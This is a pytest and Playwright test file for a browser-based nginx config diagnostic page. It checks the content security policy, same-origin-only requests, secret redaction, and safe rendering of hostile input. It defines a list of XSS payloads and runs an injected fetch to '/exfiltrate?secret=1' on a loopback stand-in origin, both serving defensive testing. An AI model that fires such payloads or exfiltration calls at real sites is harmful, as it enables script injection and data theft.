"""What the page must never do: send anything anywhere but its own origin,
run markup that came in with a config, log or chain."""
from __future__ import annotations

import base64
import http.server
import random
import string
import threading
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

SAMPLE = (Path(__file__).resolve().parents[2] / "examples" / "broken.conf").read_text()
HOSTILE = [
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned = 'img'\">",
    "javascript:window.__pwned='href'",
    "<svg onload=\"window.__pwned = 'svg'\"></svg>",
    "\"><iframe srcdoc=\"<script>parent.__pwned='iframe'</script>\">",
]


def quoted(payload: str, quote: str) -> str:
    """The payload as one nginx word: quotes inside it escaped, as nginx
    reads them, so the config stays one nginx accepts."""
    return quote + payload.replace("\\", "\\\\").replace(quote, "\\" + quote) + quote


def hostile_config() -> str:
    lines = ["server {"]
    for number, payload in enumerate(HOSTILE):
        lines.append(f"    # {payload}")
        lines.append(f"    location /p{number}/ {{")
        lines.append(f"        proxy_pass https://10.0.0.{number + 1}:8443;")
        lines.append(f"        proxy_set_header X-Note {quoted(payload, chr(39))};")
        lines.append("        proxy_ssl_verify off;")
        lines.append("    }")
    lines.append(f"    server_name {quoted(HOSTILE[1], chr(34))};")
    lines.append("}")
    return "\n".join(lines) + "\n"


class Counter(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        Counter.hits.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"leaked")

    do_POST = do_GET

    def log_message(self, *args):
        pass


@pytest.fixture
def foreign_origin():
    """A server on another loopback address: an origin the CSP does not allow."""
    server = http.server.ThreadingHTTPServer(("127.0.0.2", 0), Counter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    Counter.hits = []
    yield f"http://127.0.0.2:{server.server_address[1]}"
    server.shutdown()


def use_everything(page, self_signed_pem) -> None:
    """A whole session: sample, paste, evidence, options, tabs, rule docs."""
    page.open()
    page.page.locator("#load-sample").click()
    page.settle(SAMPLE)  # the sample arrives by fetch: a paste before it lands would be replaced
    page.paste(hostile_config())
    page.type_into("log-input", "2026/11/28 10:00:00 [error] 7#7: *1 upstream SSL certificate verify error: "
                   "(18:self-signed certificate) while SSL handshaking to upstream, upstream: \"https://10.0.0.1:8443/\"")
    page.type_into("chain-input", self_signed_pem)
    page.hook("mode").select_option("dev")
    page.hook("ssl-names").fill("api.internal")
    page.settle(hostile_config())
    page.page.locator("#tab-fixed").click()
    page.page.locator("#tab-diff").click()
    page.hook("findings").locator(".code-link").first.click()
    page.page.keyboard.press("Escape")


def test_a_whole_session_makes_only_same_origin_requests(page, context, site, self_signed_pem):
    use_everything(page, self_signed_pem)
    own = urlsplit(site)
    foreign = [url for url in context.recorder.urls
               if not url.startswith(("blob:", "data:")) and urlsplit(url)[:2] != own[:2]]
    assert context.recorder.urls, "the recorder saw no requests at all"
    assert foreign == []
    worker_requests = [url for url in context.recorder.urls if url.endswith("python_stdlib.zip")]
    assert worker_requests, "the worker's requests were not recorded"


def test_no_csp_violation_in_normal_use(page, context, self_signed_pem):
    use_everything(page, self_signed_pem)
    assert context.recorder.violations == []


def test_csp_blocks_an_injected_cross_origin_fetch(page, foreign_origin):
    page.open()
    outcome = page.page.evaluate("""async (url) => {
        const seen = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(e.violatedDirective));
        try { await fetch(url + '/exfiltrate?secret=1'); return {fetched: true, seen}; }
        catch (error) { await new Promise((r) => setTimeout(r, 100)); return {fetched: false, seen}; }
    }""", foreign_origin)
    assert outcome["fetched"] is False
    assert set(outcome["seen"]) == {"connect-src"}
    assert Counter.hits == []


@pytest.mark.parametrize("path", ["", "worker.js", "pyodide/pyodide.mjs", "app.js"])
def test_every_response_carries_the_policy(site, path):
    """A worker's policy comes from its own response header, not the page's
    meta tag: the server must send it with the worker and what it imports."""
    with urllib.request.urlopen(site + path) as response:
        policy = response.headers["Content-Security-Policy"]
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";"))
    assert directives["default-src"] == "'self'"
    assert directives["connect-src"].startswith("'self' ")
    assert "'unsafe-eval'" not in policy and "blob:" not in directives["script-src"]


def test_hostile_input_renders_as_text(page, self_signed_pem):
    page.open()
    config = hostile_config()
    page.paste(config)
    page.type_into("log-input", "\n".join(HOSTILE))
    page.type_into("chain-input", "\n".join(HOSTILE) + "\n" + self_signed_pem)
    page.settle(config)
    assert page.page.evaluate("() => window.__pwned ?? null") is None
    assert page.page.locator("main script, main img, main svg, main iframe").count() == 0
    assert page.page.locator("a[href^='javascript:']").count() == 0
    expect(page.hook("redacted")).to_contain_text("<script>window.__pwned")
    assert HOSTILE[0] in page.fixed_text()
    messages = page.hook("findings").text_content()
    assert "10.0.0.1" in messages


def test_share_safely_hides_free_text_commands_env_names_and_accounts(page):
    """The "Share safely" panel: a password in a comment (in two languages),
    in pasted shell commands, in an env-var directive, and the account in an
    ARN are replaced by their placeholders; the template, the pin, the zone
    name and the ARN's path around the account stay as written."""
    rng = random.Random(5)
    password, relay = (rng.choice(string.ascii_uppercase) + str(rng.randrange(10, 99)) + "".join(
        rng.choice(string.ascii_letters + string.digits) for _ in range(12)) + "!" for _ in range(2))
    hexkey = "".join(rng.choice("0123456789abcdef") for _ in range(64))
    account = str(rng.randrange(10 ** 11, 10 ** 12))
    pin = base64.b64encode(rng.randbytes(32)).decode()
    config = f"""server {{
    listen 443 ssl;
    # SMTP relay pass {relay}
    # mot de passe : {password}
    # redis-cli -h cache.internal -a {password} ping
    # assumes arn:aws:iam::{account}:role/edge-reader
    passenger_env_var SECRET_KEY_BASE {hexkey};
    passenger_env_var DB_PASSWORD {{{{ .Values.db.password }}}};
    limit_req_zone $binary_remote_addr zone=api_key_limit:10m rate=5r/s;
    add_header Public-Key-Pins 'pin-sha256="{pin}"; max-age=5184000' always;
    location / {{ proxy_pass https://10.0.1.45:8443; }}
}}
"""
    page.open()
    page.paste(config)
    page.settle(config)
    shared = page.hook("redacted").text_content()
    for secret in (password, relay, hexkey, account):
        assert secret not in shared
    for placeholder in ("pass REDACTED_PASSWORD_", "mot de passe : REDACTED_PASSWORD_", "-a REDACTED_PASSWORD_",
                        "arn:aws:iam::REDACTED_AWS_ACCOUNT_1:role/edge-reader", "SECRET_KEY_BASE REDACTED_SECRET_"):
        assert placeholder in shared
    for kept in ("{{ .Values.db.password }}", "zone=api_key_limit:10m", f'pin-sha256="{pin}"'):
        assert kept in shared
